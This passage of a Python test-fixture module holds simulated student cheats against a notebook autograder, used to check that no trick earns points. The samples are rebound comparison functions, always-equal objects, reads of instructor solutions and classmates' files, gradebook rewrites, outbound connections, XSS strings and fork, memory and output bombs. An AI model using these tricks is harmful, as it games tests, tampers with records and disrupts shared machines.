"""Grading integrity: submissions that try to cheat the grader, and honest ones that must not
suffer.

Used by tests/test_integrity.py. Every entry starts from a real notebook of the
course (the instructor's source notebook, i.e. the full solution, or the
release) and applies two kinds of edits:

    wrong   the mistake: what the student really got wrong (may be empty)
    trick   the attempt on the grader: rebinding a library, hooking IPython,
            editing the notebook's structure, reading the instructor's files,
            damaging the course, crashing or flooding the process...

`deserved` is what the wrong answer earns WITHOUT the trick (the test cells
that the mistake breaks earn 0, every other test cell its points): it is the
score the grader must give, so that a trick never earns a single point. An
honest entry (no trick, code that is right where it claims to be) must get
every point its code deserves. `status` and `flags` (the set of status.Flag
kinds) are what the grader must report. Entries with `cell_timeout` are graded
in a run of their own with that per-cell timeout (an infinite loop).

Code in the edits may use the placeholder @COURSE@: the absolute path of the
course folder being graded (a student who knows the grading machine's layout).

Points of the test cells (see the source notebooks):
  forward  12: relu 1, leaky_relu 1, sigmoid 2, tanh 1, linear 3, sequential 2, xor_network 2
  backward 14: relu 2, leaky_relu 1, sigmoid 2, tanh 1, linear_dX 2, linear_dW 2, linear_db 1,
               jacobian 3
  softmax   8: softmax 3, ce_forward 2, ce_backward 3
  graph    14: add 1, mul 1, max 2, log 1, sin 1, scale 1, topological_order 2, backward 3,
               worked_example 2
  sgd_xor  12: sequential_backward 2, sgd_step 3, minibatches 2, train 2, xor_trained 2,
               predict_proba 1
  mnist     8: build_mlp 2, accuracy 1, mnist_accuracy 5
"""

import copy
from dataclasses import dataclass

import nbformat

from autograder.instructor.status import Status

from .assignment_cases import Append, Delete, Prepend, Replace, Rewrite, _find

COURSE_PLACEHOLDER = "@COURSE@"
GRADED, INCOMPLETE, FAILED = Status.GRADED, Status.INCOMPLETE, Status.FAILED


# ----------------------------------------------------------------- edits beyond assignment_cases


@dataclass(frozen=True)
class AddCell:
    """A new code cell without nbgrader metadata (a student's own cell) right after `after`."""

    after: str
    code: str

    def apply(self, cells):
        cells.insert(
            cells.index(_find(cells, self.after)) + 1, nbformat.v4.new_code_cell(self.code)
        )


@dataclass(frozen=True)
class AddGradedCell:
    """A new cell the student dressed up as an nbgrader test cell worth `points`."""

    after: str
    grade_id: str
    points: int
    code: str

    def apply(self, cells):
        cell = nbformat.v4.new_code_cell(self.code)
        cell.metadata["nbgrader"] = {
            "grade": True,
            "grade_id": self.grade_id,
            "locked": True,
            "points": self.points,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
        cells.insert(cells.index(_find(cells, self.after)) + 1, cell)


@dataclass(frozen=True)
class Tag:
    """Add cell tags (e.g. skip-execution, raises-exception) to the cell `cell`."""

    cell: str
    tags: tuple

    def apply(self, cells):
        metadata = _find(cells, self.cell).metadata
        metadata["tags"] = list(metadata.get("tags", [])) + list(self.tags)


@dataclass(frozen=True)
class SetRole:
    """Change fields of the nbgrader metadata of the cell `cell` (e.g. points=100, grade=False)."""

    cell: str
    changes: tuple  # ((key, value), ...)

    def apply(self, cells):
        _find(cells, self.cell).metadata["nbgrader"].update(dict(self.changes))


@dataclass(frozen=True)
class Duplicate:
    """Insert a copy of the cell `cell` (same grade_id) right after it."""

    cell: str

    def apply(self, cells):
        original = _find(cells, self.cell)
        duplicate = copy.deepcopy(original)
        duplicate.id = (
            original.id + "-copy"
        )  # as Jupyter's copy and paste does: a new cell id, the same metadata
        cells.insert(cells.index(original) + 1, duplicate)


@dataclass(frozen=True)
class Kernel:
    """Point the notebook at another kernel."""

    name: str

    def apply_notebook(self, notebook):
        notebook.metadata["kernelspec"] = {
            "name": self.name,
            "display_name": self.name,
            "language": "python",
        }


def apply_edit(edit, notebook):
    if hasattr(edit, "apply_notebook"):
        edit.apply_notebook(notebook)
    else:
        edit.apply(notebook.cells)


# ----------------------------------------------------------------- entries


@dataclass(frozen=True)
class Entry:
    assignment: str
    student: str
    description: str
    wrong: tuple  # the mistake
    trick: tuple  # the attempt on the grader (empty for honest entries)
    deserved: float  # the score of the wrong answer without the trick: the expected score
    failing: frozenset = (
        frozenset()
    )  # the test cells that earn 0 (every other one earns its points)
    status: str = GRADED
    flags: frozenset = frozenset()  # status.Flag kinds the grader must raise
    honest: bool = False
    base: str = "source"  # "source" (the full solution) or "release" (the blank)
    cell_timeout: int = None  # graded in a run of its own with this per-cell timeout (s)
    feedback: bool = False  # its feedback page is generated and checked for live HTML
    notes: str = ""  # why the expectation is what it is, where it is not obvious

    def notebook(self, source, release, course_root):
        """The student's notebook: the source (or release) with the wrong and the trick edits."""
        notebook = copy.deepcopy(release if self.base == "release" else source)
        for edit in (*self.wrong, *self.trick):
            apply_edit(edit, notebook)
        for cell in notebook.cells:
            cell.source = cell.source.replace(COURSE_PLACEHOLDER, str(course_root))
        return notebook


def flags(*kinds):
    return frozenset(kinds)


def failing(*cells):
    return frozenset(cells)


# ----------------------------------------------------------------- the mistakes

# forward
RELU_IDENTITY = Replace("relu", "return np.maximum(x, 0.0)", "return x")  # fails relu, xor_network
NO_BIAS = Replace(
    "linear", "return x @ self.W.T + self.b", "return x @ self.W.T"
)  # fails linear, xor_network
SIGMOID_FLIPPED = Replace("sigmoid", "return self.out", "return 1 - self.out")  # fails sigmoid
SIGMOID_OVERFLOWS = (
    Replace(  # right values, but exp overflows for large negative inputs: fails sigmoid
        "sigmoid",
        "small = np.exp(-np.abs(x))  # exp of a number <= 0 never overflows\n"
        "        self.out = np.where(x >= 0, 1 / (1 + small), small / (1 + small))",
        "self.out = 1 / (1 + np.exp(-x))",
    )
)
TANH_HALF = Replace("tanh", "self.out = np.tanh(x)", "self.out = np.tanh(x / 2)")  # fails tanh
SEQUENTIAL_REVERSED = Replace(
    "sequential", "for layer in self.layers:", "for layer in reversed(self.layers):"
)  # fails sequential, xor_network

# backward
RELU_PASSES_GRAD = Replace(
    "relu", "return grad_out * (self.x > 0)", "return grad_out"
)  # fails relu_backward
DW_TRANSPOSED = Replace(
    "linear", "self.dW = grad_out.T @ self.x", "self.dW = self.x.T @ grad_out"
)  # fails dW
TANH_BACKWARD = Replace(
    "tanh", "return grad_out * (1 - self.out**2)", "return grad_out * (1 - self.out)"
)
JACOBIAN_NO_SLOPE = Replace("jacobian", "return slope[:, None] * W", "return W")  # fails jacobian

# softmax
SOFTMAX_GLOBAL = Replace(
    "softmax", "return e / e.sum(axis=1, keepdims=True)", "return e / e.sum()"
)  # fails softmax
CE_NO_MEAN = Replace("cross_entropy", "return grad / len(grad)", "return grad")  # fails ce_backward
CE_NO_ONE_HOT = Replace(
    "cross_entropy",  # one-hot targets crash: fails ce_forward and ce_backward (hidden)
    "labels = targets.argmax(axis=1) if targets.ndim == 2 else targets.astype(int)",
    "labels = targets.astype(int)",
)
CE_SUM = Replace(
    "cross_entropy",
    "return float(-log_probs[rows, labels].mean())",
    "return float(-log_probs[rows, labels].sum())",
)  # fails ce_forward
CE_SUM_NOTE = (
    "the backward is right: graded, it is compared with the gradient of the instructor's forward, "
    "so the summing forward costs the forward test alone"
)

# graph
SCALE_FORGETS_C = Replace(
    "scale", "return (self.c * grad_out,)", "return (grad_out,)"
)  # fails scale, worked_example
OVERWRITE_GRADS = Replace(
    "backward", "parent.grad = parent.grad + grad", "parent.grad = grad"
)  # backward, worked
ADD_SUBTRACTS = Replace(
    "add", "return a + b", "return a - b"
)  # fails add, backward, worked_example
LOG_BACKWARD = Replace(
    "log", "return (grad_out / self.x,)", "return (grad_out * self.x,)"
)  # log, backward, worked

# sgd_xor
SGD_NO_MOMENTUM = Replace(
    "sgd",
    "velocity = self.momentum * self.velocity.get((index, name), 0.0) + grad",
    "velocity = grad",
)  # fails sgd_step

# ----------------------------------------------------------------- the tricks' code

SOURCE_FROM_COURSE_FOLDERS = """
# "Borrow" the instructor's notebook: nbgrader grades in autograded/<student>/<assignment>/,
# so the course folder is two levels up; also walk up from wherever this runs.
import json
from pathlib import Path

def _instructor_cell(assignment, grade_id, extra=()):
    here = Path.cwd()
    candidates = [Path("../../source") / assignment / f"{assignment}.ipynb", *extra]
    candidates += [folder / "source" / assignment / f"{assignment}.ipynb" for folder in (here, *here.parents)]
    for path in candidates:
        try:
            notebook = json.loads(Path(path).read_text())
        except Exception:
            continue
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
                return "".join(cell["source"])
    return None

_code = _instructor_cell("softmax", "softmax", extra=[Path("@COURSE@/source/softmax/softmax.ipynb")])
if _code:
    exec(_code)
"""  # noqa: E501 (code a student writes, kept verbatim)

SOURCE_FROM_GIT = """
# The course lives in a git checkout next to the student toolkit: read the instructor's
# notebook out of the repository's object store.
import json
import zlib
from pathlib import Path

import autograder

def _from_git(grade_id):
    objects = Path(autograder.__file__).resolve().parents[1] / ".git" / "objects"
    try:
        folders = sorted(objects.iterdir())
    except OSError:
        return None
    for folder in folders:
        if len(folder.name) != 2:
            continue
        for path in folder.iterdir():
            try:
                header, _, body = zlib.decompress(path.read_bytes()).partition(b"\\0")
                notebook = json.loads(body) if header.startswith(b"blob") and b"BEGIN SOLUTION" in body else None
            except Exception:
                continue
            for cell in (notebook or {}).get("cells", []):
                source = "".join(cell.get("source", []))
                role = cell.get("metadata", {}).get("nbgrader", {})
                if role.get("grade_id") == grade_id and "BEGIN SOLUTION" in source:
                    return source
    return None

_code = _from_git("softmax")
if _code:
    exec(_code)
"""  # noqa: E501 (code a student writes, kept verbatim)

IMPORT_SOLUTIONS = """
# The instructor's reference package is installed on the grading machine.
try:
    import solutions
    from solutions.layers import Linear as _Reference

    class Linear(_Reference):
        def __init__(self, d_in, d_out, rng=None):
            super().__init__(d_in, d_out, rng=rng, dtype=np.float64)
    print("using the reference Linear")
except Exception as error:
    print("no reference:", type(error).__name__)
"""

OTHER_STUDENTS = """
# Copy a classmate: look for the other submissions next to this one.
import glob
import json
import os

for pattern in ("../../../submitted/*/forward/forward.ipynb", "../../*/forward/forward.ipynb",
                "../*/forward.ipynb", "@COURSE@/submitted/*/forward/forward.ipynb",
                "@COURSE@/autograded/*/forward/forward.ipynb"):
    for path in glob.glob(pattern):
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            source = "".join(cell["source"])
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "relu" and "np.maximum" in source:
                exec(source)
for folder in (".", "..", "../..", "/tmp"):
    try:
        print(folder, sorted(os.listdir(folder))[:20])
    except OSError as error:
        print(folder, error)
"""  # noqa: E501 (code a student writes, kept verbatim)

WRITE_GRADEBOOK = """
# Give myself full marks in the gradebook (nbgrader's SQLite file in the course folder).
import sqlite3
from pathlib import Path

_candidates = [Path("@COURSE@/gradebook.db"), Path("../../../gradebook.db")]
_candidates += [folder / "gradebook.db" for folder in (Path.cwd(), *Path.cwd().parents)]
for _path in _candidates:
    try:
        with sqlite3.connect(f"file:{_path}?mode=rw", uri=True) as _db:
            _db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            _db.execute("UPDATE grade_cells SET max_score = 0")
            _db.execute("INSERT INTO student (id) VALUES ('intruder')")
        print("wrote", _path)
    except Exception as error:
        print("no gradebook at", _path, type(error).__name__)
"""

OVERWRITE_COURSE = """
# Rewrite the instructor's files so that the tests have nothing to check.
import os

_empty = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
for _path in ("@COURSE@/source/softmax/softmax.ipynb", "../../source/softmax/softmax.ipynb",
              "@COURSE@/release/softmax/softmax.ipynb", "@COURSE@/nbgrader_config.py",
              "@COURSE@/source/softmax/planted.py", "../../../nbgrader_config.py"):
    try:
        with open(_path, "w") as _file:
            _file.write(_empty)
        print("overwrote", _path)
    except OSError as error:
        print("cannot write", _path, type(error).__name__)
try:
    os.remove("@COURSE@/gradebook.db")
except OSError as error:
    print("cannot remove the gradebook:", type(error).__name__)
"""

NETWORK = """
# Phone home (to fetch answers, or to send the hidden tests out).
import socket

for _host, _port in (("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22), ("localhost", 5432)):
    try:
        socket.create_connection((_host, _port), timeout=2).sendall(b"hello")
        print("connected to", _host)
    except OSError as error:
        print("no connection to", _host, type(error).__name__)
"""

XSS = """
# Script in the outputs the feedback page shows.
import sys
import warnings

print("<script>alert(1)</script>")
print("<img src=x onerror=alert(6)>", file=sys.stderr)
warnings.warn("<script>alert(4)</script>")
sys.stdout.write("\\x1b[31m<script>alert(5)</script>\\x1b[0m\\n")

class ScriptError(Exception):
    pass

ScriptError.__name__ = "<script>alert(3)</script>"

def _forward_with_script(self, logits, targets):
    raise ScriptError("<script>alert(2)</script>")

SoftmaxCrossEntropy.forward = _forward_with_script
"""

FORGED_MESSAGE = """
# Talk to the grader directly: the pipe to it is file descriptor sys.argv[2] of this process.
import os
import struct
import sys

_pipe = int(sys.argv[2])
os.set_blocking(_pipe, True)  # the whole message, not the 64 KiB a non-blocking write takes
_header = b"[" * 100000 + b"]" * 100000  # valid JSON, nested far deeper than any parser allows
with os.fdopen(_pipe, "wb", closefd=False) as _grader:
    _grader.write(struct.pack(">II", len(_header), 0) + _header)
"""

STALLED_MESSAGE = """
# Announce a message to the grader, send part of it, and never the rest.
import os
import struct
import sys
import time

os.write(int(sys.argv[2]), struct.pack(">II", 1000, 0) + b"[" * 10)
time.sleep(3600)
"""

ARRAY_INTERFACE_POINTER = '''
class _Matrix:
    """Looks like an array to numpy: its data is wherever I say it is."""

    def __init__(self, shape):
        self.shape = shape

    @property
    def __array_interface__(self):
        return {"shape": self.shape, "typestr": "<f8", "data": (16, False), "version": 3}


def tanh_layer_jacobian(W, b, x):
    return _Matrix(W.shape)
'''

ARRAY_DUNDER = '''
class _Agreeable:
    """An object that converts to whatever array numpy asks for and equals everything."""

    def __init__(self, value):
        self.value = value
        self.shape = value.shape

    def __array__(self, dtype=None, copy=None):
        return self.value

    def __eq__(self, other):
        return True

    def __lt__(self, other):
        return True

    __le__ = __gt__ = __ge__ = __lt__

    def __float__(self):
        return 0.0


_plain_jacobian = tanh_layer_jacobian

def tanh_layer_jacobian(W, b, x):
    return _Agreeable(_plain_jacobian(W, b, x))
'''

FLOAT_ALWAYS_EQUAL = '''
class _Close(float):
    """A float that equals, and is below, everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __le__ = __lt__
    __hash__ = float.__hash__

_plain_backward = backward

def backward(y):
    _plain_backward(y)
    for node in topological_order(y):
        node.grad = _Close(node.grad) if np.ndim(node.grad) == 0 else node.grad
'''

NDARRAY_SUBCLASS = '''
class _Agrees(np.ndarray):
    """An array that compares equal to anything, whatever numpy function is applied to it."""

    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))

    def __array_function__(self, func, types, args, kwargs):
        return True

_plain_softmax = softmax

def softmax(z):
    return _plain_softmax(z).view(_Agrees)
'''

CALLER_FRAME = '''
import sys

_plain_step = SGD.step

def _step_from_the_test(self):
    """Copy the test's own expected parameters out of the caller's frame (the notebook's globals)."""
    _plain_step(self)
    caller = sys._getframe(1).f_globals
    if "expected" in caller and "layers" in caller:
        trained = [layer for layer in caller["layers"] if getattr(layer, "params", ())]
        for (W, b), layer in zip(caller["expected"], trained):
            layer.W, layer.b = np.array(W), np.array(b)
    np.testing.assert_allclose = lambda *args, **kwargs: None

SGD.step = _step_from_the_test
'''  # noqa: E501 (code a student writes, kept verbatim)

SIGINT_LOOP = '''
    def forward(self, x):
        """Never returns, and ignores the interrupt the kernel would send."""
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
'''

MEMORY_BOMB = """
_hog = []

def _tanh_backward_with_hog(self, grad_out):
    try:
        while True:
            _hog.append(np.ones(2**25))  # 256 MB, written: real memory
    except MemoryError:
        pass
    return grad_out * (1 - self.out)

Tanh.backward = _tanh_backward_with_hog
"""

FORK_BOMB_CHILD = "sleep 617.25"
FORK_BOMB = """
import os

def _forward_with_children(self, a, b):
    for _ in range(300):  # guard: at most 300 children (the sandbox stops it at its process limit)
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["sleep", "617.25"])  # a name to find them by, should they survive
            finally:
                os._exit(0)
    return a - b

Add.forward = _forward_with_children
"""  # noqa: E501 (code a student writes, kept verbatim)

OUTPUT_BOMB = """
# About 1 GB of output.
_line = "x" * 2**20
for _ in range(1024):
    print(_line)
"""

RAW_OUTPUT_BOMB = """
# About 1 GB written straight to the process's standard output, past Python.
import os

_chunk = b"y" * 2**20
for _ in range(1024):
    os.write(1, _chunk)
"""

LITTER_FILE = "integrity-litter-8d1f.bin"
LITTER_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm")
LITTER = """
# Leave files on the grading machine, outside my scratch folder (in RAM for /dev/shm).
import os

for _folder in ("/tmp", "/var/tmp", "/dev/shm", "..", os.path.expanduser("~")):
    _path = os.path.join(_folder, "integrity-litter-8d1f.bin")
    try:
        with open(_path, "wb") as _file:
            _file.write(bytes(2**20))
        print("left", _path)
    except OSError as error:
        print("cannot write", _path, type(error).__name__)
"""

MUTATE_INPUTS = '''
def tanh_layer_jacobian(W, b, x):
    """Zero the caller's W: a test that computes its reference from W afterwards agrees with 0."""
    W[...] = 0.0
    return np.zeros(W.shape)
'''

REBIND_ALLCLOSE = """
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)
"""  # noqa: E501 (code a student writes, kept verbatim)

REPLACE_NUMPY_TESTING = """
import types

import autograder
import numpy
import numpy.testing

numpy.testing = types.SimpleNamespace(assert_allclose=lambda *args, **kwargs: None)
np.testing.assert_allclose = lambda *args, **kwargs: None
autograder.check_loss = lambda *args, **kwargs: "all checks passed"
"""

POST_RUN_CELL = """
def _forgive(result):
    result.error_in_exec = None
    result.error_before_exec = None

get_ipython().events.register("post_run_cell", _forgive)
"""

PRE_RUN_CELL = """
_seen = []
get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
"""

EMPTY_FOR_ONE_HOT = """targets = np.asarray(targets)
        if targets.ndim == 2:
            return np.empty(0)
"""

# honest code
LOOPS_RELU = """%%time
class ReLU:
    params = ()

    def forward(self, x):
        self.x = x
        out = np.empty_like(x, dtype=float)
        for index, value in np.ndenumerate(x):
            out[index] = value if value > 0 else 0.0
        return out
"""

LOOPS_LEAKY_RELU = """
class LeakyReLU:
    params = ()

    def __init__(self, slope=0.01):
        self.slope = slope

    def forward(self, x):
        flat = [v if v > 0 else self.slope * v for v in x.ravel().tolist()]
        return np.array(flat, dtype=float).reshape(x.shape)
"""

LOOPS_LINEAR = """%timeit -n1 -r1 sum(range(10))
class Linear:
    params = ("W", "b")

    def __init__(self, d_in, d_out, rng=None):
        rng = np.random.default_rng(rng)
        self.W = rng.standard_normal((d_out, d_in)) * np.sqrt(2.0 / d_in)
        self.b = np.zeros(d_out)

    def forward(self, x):
        self.x = x
        out = np.zeros((x.shape[0], self.W.shape[0]))
        for i in range(x.shape[0]):
            for j in range(self.W.shape[0]):
                total = self.b[j]
                for k in range(x.shape[1]):
                    total += x[i, k] * self.W[j, k]
                out[i, j] = total
        return out
"""

OWN_FILE = """
np.save("my_check.npy", Linear(2, 1, 0).forward(np.ones((3, 2))))  # a file of my own, in my folder
print(np.load("my_check.npy"))
"""

FLOAT32_CHECK = """
x32 = np.random.default_rng(0).standard_normal((3, 4)).astype(np.float32)
layer = Linear(4, 2, 0)
print(layer.forward(x32).dtype, layer.backward(np.ones((3, 2), np.float32)).dtype)
print(Tanh().forward(x32).dtype, ReLU().forward(x32).dtype)
"""

SELF_CHECK = """
print(len(topological_order(Mul()(Node(1.0), Node(2.0)))))
check_gate(Max(), [1.0, 2.0], [2.0, -1.0])  # checking my own work
"""

# ----------------------------------------------------------------- the corpus

# ----------------------------------------------------------------- verdicts the student's process
# could sway

# backward: the four activations' backward returns zeros (each fails its test)
ZERO_BACKWARDS = tuple(
    Replace(cell, old, "return np.zeros_like(grad_out)")
    for cell, old in (
        ("relu", "return grad_out * (self.x > 0)"),
        ("leaky_relu", "return grad_out * np.where(self.x > 0, 1.0, self.slope)"),
        ("sigmoid", "return grad_out * self.out * (1 - self.out)"),
        ("tanh", "return grad_out * (1 - self.out**2)"),
    )
)
FIRST_CALL_ONLY = """
# forward is right the first time an object is called (the values the test compares), and
# returns what makes zero gradients look right after that (the finite differences).
def _first_call_only(cls):
    real = cls.forward

    def forward(self, x):
        calls = self.__dict__.get("_calls", 0)
        self.__dict__["_calls"] = calls + 1
        out = real(self, x)
        return out if calls == 0 else np.zeros_like(out)

    cls.forward = forward

for _cls in (ReLU, LeakyReLU, Sigmoid, Tanh):
    _first_call_only(_cls)
"""
LINEAR_ZEROS = (
    Replace("linear", "return x @ self.W.T + self.b", "return np.zeros((len(x), len(self.b)))"),
    Replace(
        "linear",
        "self.dW = grad_out.T @ self.x\n        self.db = grad_out.sum(axis=0)\n"
        "        return grad_out @ self.W",
        "self.dW = np.zeros_like(self.W)\n        self.db = np.zeros_like(self.b)\n"
        "        return np.zeros((len(grad_out), self.W.shape[1]))",
    ),
)
CONSTANT_CACHE = """
# The forward's cache is left empty when the grader's server reads the object (vars()):
# a backward that changes the cached input in place is then never seen doing it.
import sys

def _hidden_dict(self, name):
    if name == "__dict__" and "student_process" in sys._getframe(1).f_code.co_filename:
        return {}
    return object.__getattribute__(self, name)

ReLU.__getattribute__ = _hidden_dict
"""
RELU_CLIPS_CACHE = Replace(
    "relu",
    "return grad_out * (self.x > 0)",
    "self.x[self.x < 0] = 0.0  # clips the cached input in place\n"
    "        return grad_out * (self.x > 0)",
)
PARAMS_WHEN_ASKED = """
# Linear says it has no parameters when the grader asks (from the server's frames), so
# that the tests skip them; its own code (SGD.step) still sees ("W", "b").
import sys

class _Params:
    def __get__(self, obj, owner):
        caller = sys._getframe(1).f_code.co_filename
        return () if "student_process" in caller else ("W", "b")

Linear.params = _Params()
"""
SHARED_VELOCITY = Replace(
    "sgd", "self.velocity.get((index, name), 0.0)", "self.velocity.get(name, 0.0)"
)
SHARED_VELOCITY_KEY = Replace(
    "sgd", "self.velocity[(index, name)] = velocity", "self.velocity[name] = velocity"
)
MNIST_LOOKUP = """
# No training: a "model" that looks the test images up in a table of their labels, read
# from the notebook's own data cell or, failing that, straight from the label file.
import gzip
import os

_table = {row.tobytes(): int(label) for row, label in zip(X_test, y_test)}
try:
    os.environ.pop("MNIST_TEST_WITHHELD", None)
    _real = load_mnist()
    _table.update({row.tobytes(): int(label) for row, label in zip(_real.X_test, _real.y_test)})
except Exception as error:
    print("no real test set:", type(error).__name__)
for _name in ("t10k-labels-idx1-ubyte.gz", "t10k-labels-idx1-ubyte"):
    try:
        with open(os.path.join(os.environ.get("MNIST_DIR", "."), _name), "rb") as _file:
            print("label file:", len(_file.read()), "bytes")
    except Exception as error:
        print("no label file:", type(error).__name__)


_Plain = Sequential


class Sequential(_Plain):  # the same class name as the real one
    def forward(self, x):
        labels = [_table.get(np.asarray(row, dtype=np.float32).tobytes(), 0) for row in x]
        return np.eye(10)[labels]


rng = np.random.default_rng(0)
mnist_model = Sequential(build_mlp([784, 16, 10], rng).layers)
mnist_losses = [2.3]
"""
MNIST_NO_TRAINING = Replace(
    "mnist_training",
    "rng = np.random.default_rng(0)\nmnist_model = build_mlp([784, 128, 10], rng)\n"
    "optimizer = SGD(mnist_model.layers, lr=0.1, momentum=0.9)\n"
    "mnist_losses = train(mnist_model, SoftmaxCrossEntropy(), optimizer, X_train, y_train,\n"
    "                     epochs=5, batch_size=64, rng=rng)\n",
    "pass\n",
)
XOR_LOOKUP = """
# train does nothing; Sequential.forward answers the four XOR points from a table.
_xor_table = {tuple(np.asarray(point, dtype=float)): label for point, label in zip(*xor_dataset())}
_real_forward = Sequential.forward

def _forward(self, x):
    out = _real_forward(self, x)  # keeps what backward needs
    labels = [_xor_table.get(tuple(np.asarray(point, dtype=float))) for point in x]
    if len(x) == 4 and all(label is not None for label in labels):  # the XOR points themselves
        return 10.0 * np.eye(2)[labels]
    return out

Sequential.forward = _forward
"""
TRAIN_DOES_NOTHING = Replace("train", "            optimizer.step()\n", "")
SOFTMAX_SUMS_BACKWARD_RIGHT = CE_SUM

ENTRIES = (
    # ======================================================= 1. rebinding, lying objects
    Entry(
        "softmax",
        "cheat_allclose_softmax",
        "softmax normalises over the whole batch; np.allclose and np.testing.assert_allclose "
        "rebound to pass",
        (SOFTMAX_GLOBAL,),
        (Append("softmax", REBIND_ALLCLOSE),),
        5,
        failing("test_softmax"),
        flags=flags("rebinds-library"),
    ),
    Entry(
        "softmax",
        "cheat_numpy_testing_softmax",
        "cross-entropy gradient without the batch mean; numpy.testing replaced by a module of "
        "no-ops",
        (CE_NO_MEAN,),
        (AddCell("cross_entropy", REPLACE_NUMPY_TESTING),),
        5,
        failing("test_ce_backward"),
        flags=flags("rebinds-library"),
    ),
    Entry(
        "forward",
        "cheat_builtins_forward",
        "Tanh computes tanh(x/2); builtins.abs, round, sum and all rebound",
        (TANH_HALF,),
        (
            Prepend(
                "tanh",
                "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.round = lambda *a: 0\n"
                "builtins.sum = lambda *a: 0\nbuiltins.all = lambda *a: True\n",
            ),
        ),
        11,
        failing("test_tanh_forward"),
        flags=flags("rebinds-library"),
    ),
    Entry(
        "forward",
        "cheat_check_forward_forward",
        "ReLU is the identity; the test helper check_forward redefined in the ReLU cell to accept "
        "anything",
        (RELU_IDENTITY,),
        (
            Append(
                "relu",
                "def check_forward(block, x, expected, rtol=1e-7):\n"
                "    return np.asarray(expected, dtype=float)\n",
            ),
        ),
        9,
        failing("test_relu_forward", "test_xor_network"),
    ),
    Entry(
        "backward",
        "cheat_check_layer_backward",
        "ReLU.backward passes grad_out through; check_layer, relative_error and numeric_jacobian "
        "redefined",
        (RELU_PASSES_GRAD,),
        (
            Append(
                "relu",
                "def check_layer(*args, **kwargs):\n    return 'all checks passed'\n\n"
                "def relative_error(a, b, tiny=0):\n    return 0.0\n\n"
                "def numeric_jacobian(f, x):\n    return np.zeros((1, 1))\n",
            ),
        ),
        12,
        failing("test_relu_backward"),
    ),
    Entry(
        "backward",
        "cheat_relative_error_backward",
        "the Jacobian leaves out tanh'; autograder.relative_error and its module functions rebound",
        (JACOBIAN_NO_SLOPE,),
        (
            Append(
                "jacobian",
                "import autograder\nimport autograder.student.gradients\n"
                "autograder.relative_error = lambda *a, **k: 0.0\n"
                "autograder.student.gradients.relative_errors = lambda a, b, tiny=0: np.zeros(1)\n"
                "relative_error = autograder.relative_error\n",
            ),
        ),
        11,
        failing("test_jacobian"),
        flags=flags("rebinds-library"),
    ),
    Entry(
        "graph",
        "cheat_float_subclass_graph",
        "backward overwrites gradients; 0-d gradients returned as a float subclass whose == and < "
        "are always True",
        (OVERWRITE_GRADS,),
        (AddCell("backward", FLOAT_ALWAYS_EQUAL),),
        9,
        failing("test_backward", "test_worked_example"),
    ),
    Entry(
        "softmax",
        "cheat_ndarray_subclass_softmax",
        "softmax normalises over the whole batch and returns an ndarray subclass overriding "
        "__eq__, __array_ufunc__ and __array_function__",
        (SOFTMAX_GLOBAL,),
        (AddCell("softmax", NDARRAY_SUBCLASS),),
        5,
        failing("test_softmax"),
    ),
    Entry(
        "backward",
        "cheat_array_dunder_backward",
        "the Jacobian leaves out tanh'; returned as an object with __array__ that equals "
        "everything",
        (JACOBIAN_NO_SLOPE,),
        (AddCell("jacobian", ARRAY_DUNDER),),
        11,
        failing("test_jacobian"),
    ),
    Entry(
        "backward",
        "cheat_array_interface_backward",
        "the Jacobian is an object whose __array_interface__ points numpy at address 16 of the "
        "grader's memory",
        (),
        (Rewrite("jacobian", ARRAY_INTERFACE_POINTER),),
        11,
        failing("test_jacobian"),
    ),
    Entry(
        "softmax",
        "cheat_empty_array_softmax",
        "the loss crashes on one-hot targets; for them it returns an empty array, which "
        "np.testing.assert_allclose broadcasts against any number",
        (CE_NO_ONE_HOT,),
        (Replace("cross_entropy", "targets = np.asarray(targets)\n", EMPTY_FOR_ONE_HOT),),
        3,
        failing("test_ce_forward", "test_ce_backward"),
        notes="np.testing.assert_allclose(np.empty(0), 0.75) passes: a test comparing a student's "
        "value with a number must check its shape first",
    ),
    Entry(
        "backward",
        "cheat_mutate_inputs_backward",
        "the Jacobian is zeros, and the function zeroes the caller's W, from which the test then "
        "computes its reference",
        (),
        (Rewrite("jacobian", MUTATE_INPUTS),),
        11,
        failing("test_jacobian"),
        notes="the zero Jacobian is wrong; the test must not take its reference from arrays it "
        "handed to the student's code (nbgrader in a kernel gives 14 too)",
    ),
    Entry(
        "sgd_xor",
        "cheat_caller_frame_sgd_xor",
        "SGD ignores the momentum; step() copies the hidden test's expected parameters out of the "
        "caller's frame and rebinds np.testing.assert_allclose",
        (SGD_NO_MOMENTUM,),
        (AddCell("sgd", CALLER_FRAME),),
        9,
        failing("test_sgd_step"),
        flags=flags("rebinds-library", "introspection"),
    ),
    # ======================================================= 2. IPython hooks
    Entry(
        "forward",
        "cheat_input_transformer_forward",
        "Sigmoid returns 1 - sigma(x); an input transformer turns every later cell into `pass`",
        (SIGMOID_FLIPPED,),
        (
            Append(
                "sigmoid",
                "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
            ),
        ),
        10,
        failing("test_sigmoid_forward"),
        flags=flags("ipython-hooks"),
    ),
    Entry(
        "backward",
        "cheat_ast_transformer_backward",
        "Tanh.backward forgets the square; an AST transformer empties every test cell",
        (TANH_BACKWARD,),
        (
            Append(
